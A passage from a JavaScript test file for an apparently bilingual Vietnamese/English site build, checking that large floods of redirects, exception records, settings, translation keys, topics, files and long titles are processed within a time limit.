          Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`/vi/cu-${i}/`, `/vi/khong-${i}/`])),
        ),
      },
    ],
    [
      'exceptions of nothing',
      {
        'content/data/exceptions.yaml': Array.from(
          { length: 2000 },
          (_, i) =>
            `- { file: "content/a${i}", code: credential, version: "00000000", reason: "lý do rất rõ", reviewer: "Người", on: 2026-01-01 }`,
        ).join('\n'),
      },
    ],
    ['unknown settings', site(Object.fromEntries(Array.from({ length: 5000 }, (_, i) => [`k${i}`, 'a'])))],
    [
      'words that nobody asked for',
      changed('i18n/en/common.json', (words) => {
        for (let i = 0; i < 5000; i++) words[`k${i}`] = 'a';
      }),
    ],
    [
      'topics',
      withSource({ facts: { topics: `[${Array.from({ length: 5000 }, (_, i) => `t${i}`).join(', ')}]` } }),
    ],
    ['a title', withSource({ title: json(many('a b“c ', 50_000)) })],
    ['files', Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`content/news/x${i}.txt`, 'a']))],
  ])('a flood of %s', (_what, files) => {
    expect(wait(files)).toBeLessThan(limit);
  });

  test('nor does a text that is rendered', () => {
    const start = performance.now();
    html('vi', many('## a\n\n', size));
    expect(performance.now() - start).toBeLessThan(limit);
  });
});
